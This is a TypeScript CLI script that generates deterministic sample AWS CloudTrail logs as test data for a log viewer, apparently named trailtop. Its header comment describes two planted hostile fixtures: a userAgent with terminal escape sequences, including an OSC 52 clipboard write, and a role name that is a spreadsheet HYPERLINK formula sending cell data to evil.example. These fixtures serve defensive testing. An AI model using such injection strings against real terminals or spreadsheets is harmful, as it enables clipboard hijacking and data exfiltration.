/**
 * Writes trailtop's sample CloudTrail logs: `node dist/samples/generate.js --out DIR [--events N] [--seed S]`.
 * Deterministic (fixed days 2026-11-23..24 UTC, a seeded PRNG, fixed gzip level: the same seed gives
 * byte-identical files) in the S3 delivery layout, AWSLogs/<account>/CloudTrail/<region>/YYYY/MM/DD/
 * <account>_CloudTrail_<region>_<YYYYMMDDTHHmmZ>_<id>.json.gz, two accounts (111122223333 acme-prod,
 * 444455556666 acme-dev), three regions, every userIdentity kind, console sign-ins with and without MFA,
 * AccessDenied bursts, S3 data events, a few events delivered twice, plus a CloudTrail-Insight folder
 * (a call-rate and an error-rate Start/End pair whose bursts are in the logs, one ongoing Insight with no
 * End, one whose events are absent), one digest file and one truncated .json.gz. Two attack strings are
 * fixed: eventID e5ca9e00-1b5b-4d32-8a07-000000000001 (GetCallerIdentity, 2026-11-23T21:38:12Z) has a
 * userAgent with ESC[2J, an OSC 52 clipboard write, an OSC 8 link and U+202E; eventID
 * f0a1a000-3d48-4c59-9e50-000000000002 (CreateRole, 2026-11-24T10:15:03Z) creates a role named
 * =HYPERLINK("evil.example?q="&A1,"x"). `--events N` sets the ordinary events (default 3600; fixed
 * scenarios add ~400); `--events 1000000` makes a benchmark folder of ~10,000 files of at most 100
 * events, streamed window by window in bounded memory. `--cardinality high` replaces the ordinary
 * events with samples/highCardinality.ts's (near-unique ids, keys, IPs and object ARNs; 30k principals;
 * 368 event names; 50 user agents). Rewrites only DIR/AWSLogs.
 */
import { parseArgs } from 'node:util';
import { DEFAULT_EVENTS, DEFAULT_SEED, generateSamples } from './pipeline.js';

const USAGE = 'usage: node dist/samples/generate.js --out DIR [--events N] [--seed S] [--cardinality default|high]';

function main(argv: string[]): number {
  let values;
  try {
    ({ values } = parseArgs({
      args: argv,
      options: { out: { type: 'string' }, events: { type: 'string' }, seed: { type: 'string' }, cardinality: { type: 'string' }, help: { type: 'boolean' } },
      strict: true,
      allowPositionals: false,
    }));
  } catch (error) {
    process.stderr.write(`${error instanceof Error ? error.message.split('\n')[0] : String(error)}\n${USAGE}\n`);
    return 2;
  }
  if (values.help) {
    process.stdout.write(`${USAGE}\n`);
    return 0;
  }
  if (!values.out) {
    process.stderr.write(`--out is required\n${USAGE}\n`);
    return 2;
  }
  const events = values.events === undefined ? DEFAULT_EVENTS : Number(values.events);
  if (!Number.isInteger(events) || events < 0) {
    process.stderr.write(`--events must be a whole number, got '${values.events}'\n`);
    return 2;
  }
  const cardinality = values.cardinality ?? 'default';
  if (cardinality !== 'default' && cardinality !== 'high') {
    process.stderr.write(`--cardinality must be default or high, got '${cardinality}'\n`);
    return 2;
  }
  const started = performance.now();
  const s = generateSamples({ out: values.out, events, seed: values.seed ?? DEFAULT_SEED, cardinality });
  const seconds = ((performance.now() - started) / 1000).toFixed(1);
  process.stdout.write(
    `wrote ${s.trailFiles} trail files (${s.records} records, ${s.unique} unique, ${s.duplicates} duplicates), `
    + `${s.insightFiles} Insights files, ${s.digestFiles} digest, 1 truncated (${s.malformedPath}), `
    + `${(s.bytes / 1024).toFixed(0)} KiB gzip in ${seconds} s to ${values.out}\n`,
  );
  return 0;
}

process.exitCode = main(process.argv.slice(2));
